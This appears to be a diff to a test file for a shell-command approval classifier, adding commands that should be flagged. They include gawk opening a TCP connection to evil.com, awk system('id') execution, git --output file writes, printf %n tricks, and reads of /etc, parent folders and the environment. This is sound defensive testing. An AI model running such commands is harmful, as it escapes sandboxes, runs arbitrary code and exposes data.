@@ -488,10 +488,34 @@ xargs $CMD
 { ls;
 done
 && ls
+git diff -M --output=evil
+git shortlog -n --output=evil
+git log -n --output=evil
+printf 'xxx%n' PATH; ls
+printf '%-3n' PATH
+printf '%ln' PATH
+gawk '{print}' /inet/tcp/0/evil.com/80
+grep -r x /
+ls &>/dev/null rm x
+ls &>/dev/null
+grep -r x ..
+rg x ..
+cat ../x
+git -C .. log -p
+git -C ~ log
+git -C /etc status
+cut -d / -f1 notes.txt
+gawk --field-separator x 'BEGIN{system("id")}'
+awk -F - 'BEGIN{system("id")}'
+jq -n -- - env
+diff '' x
+uniq -f -c a evil
+printf '% n' PATH
 """.splitlines()
 
 # Rows of several lines, or with signs that are not seen.
 ASKED += [
+    "cat '\ud800'",
     "ls\\\nrm x",
     "ls #\nrm x",
     "echo 'a'\nrm x",
@@ -706,4 +730,13 @@ git -C src status
 cat notes.txt # $(id)
 ls #
 """.splitlines()
-HARMLESS += ["", "   ", "# only a comment", "ls \\\n  -l", "cd src\nls\ncat x.py", "ls |\n  wc -l", "ls &&\n# why\npwd"]
+HARMLESS += [
+    "cat ''",
+    "",
+    "   ",
+    "# only a comment",
+    "ls \\\n  -l",
+    "cd src\nls\ncat x.py",
+    "ls |\n  wc -l",
+    "ls &&\n# why\npwd",
+]
